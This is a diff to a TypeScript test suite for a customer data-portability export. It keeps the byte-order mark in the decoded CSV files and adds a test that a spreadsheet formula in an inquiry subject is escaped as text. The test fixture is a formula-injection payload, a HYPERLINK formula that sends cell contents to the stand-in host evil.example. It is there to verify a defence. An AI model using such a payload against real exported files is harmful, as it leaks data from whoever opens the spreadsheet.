@@ -19,7 +19,8 @@ async function zipOf(customerId: string) {
     at += chunk.length;
   }
   const files = unzipSync(bytes);
-  const decoder = new TextDecoder();
+  // Keep the byte-order mark, so that the tests see it.
+  const decoder = new TextDecoder("utf-8", { ignoreBOM: true });
   return Object.fromEntries(Object.entries(files).map(([name, data]) => [name, decoder.decode(data)]));
 }
 
@@ -55,10 +56,21 @@ describe("data portability", () => {
       resolution: "PT1H",
     });
     const csv = (files["forbruk.csv"] ?? "").split("\r\n");
-    expect(csv[0]).toBe("gsrn,intervalStart,resolution,kwh,quality");
+    expect(csv[0]).toBe("\uFEFFgsrn,intervalStart,resolution,kwh,quality");
     expect(csv[1]).toMatch(/^\d{18},2026-01-01T01:00:00\.000\+01:00,PT1H,1\.25,REVISED$/);
     // A message with a comma is quoted in CSV.
     expect(files["meldinger.csv"]).toContain(`"Hilsen ${identity.firstName}, ring ${identity.phone}"`);
+  });
+
+  it("P26: a subject that a spreadsheet would run as a formula is written as text in henvendelser.csv", async () => {
+    const customer = await createCustomer();
+    const subject = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")';
+    await db.inquiry.create({ data: { customerId: customer.id, subject } });
+    const csv = (await zipOf(customer.id))["henvendelser.csv"] ?? "";
+    const row = csv.split("\r\n")[1] ?? "";
+    // An apostrophe before the "=", and the quotes inside doubled (RFC 4180).
+    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klikk"")",`);
+    expect(row).not.toMatch(/,"?=/);
   });
 
   it("P26: never includes what we hold only by law or for security: no national ID, no password hash, no audit log", async () => {
